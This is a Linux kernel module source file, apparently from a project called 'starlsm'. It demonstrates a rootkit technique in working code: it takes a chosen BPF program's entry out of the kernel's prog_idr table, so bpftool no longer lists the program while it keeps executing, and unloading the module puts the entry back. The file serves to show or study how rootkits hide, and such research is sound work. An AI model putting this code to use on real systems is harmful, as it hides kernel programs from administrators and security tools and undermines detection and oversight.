// SPDX-License-Identifier: GPL-2.0
/*
 * starlsm - what a rootkit does for a bpf program of its own: it takes it out of the
 * table in which bpftool finds it; it is executed as before
 *
 * insmod hide_program.ko idr=ADDRESS id=ID; rmmod puts it back. The address is that of
 * prog_idr.
 */
#include <linux/idr.h>
#include <linux/module.h>

static unsigned long idr;
module_param(idr, ulong, 0);
MODULE_PARM_DESC(idr, "where the table is");

static int id;
module_param(id, int, 0);
MODULE_PARM_DESC(id, "which program to hide");

static void *program;

static int __init hide_program_init(void)
{
	program = idr_remove((struct idr *)idr, id);
	return program ? 0 : -ENOENT;
}

static void __exit hide_program_exit(void)
{
	int rc = idr_alloc((struct idr *)idr, program, id, id + 1, GFP_KERNEL);

	WARN_ON_ONCE(rc != id);
}

module_init(hide_program_init);
module_exit(hide_program_exit);
MODULE_DESCRIPTION("Hides a bpf program");
MODULE_LICENSE("GPL");
